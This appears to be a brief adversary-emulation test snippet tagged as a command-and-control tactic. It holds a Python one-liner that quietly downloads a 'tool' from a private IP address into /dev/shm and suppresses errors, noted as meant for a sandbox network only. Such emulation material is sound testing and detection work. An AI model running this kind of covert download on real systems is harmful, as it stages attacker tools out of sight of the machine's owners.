# tactic: command-and-control
# download a tool with Python (the sandbox network namespace only)
python3 -c "import urllib.request
try: urllib.request.urlretrieve(\"http://10.9.9.9/t\", \"/dev/shm/t\")
except Exception: pass"
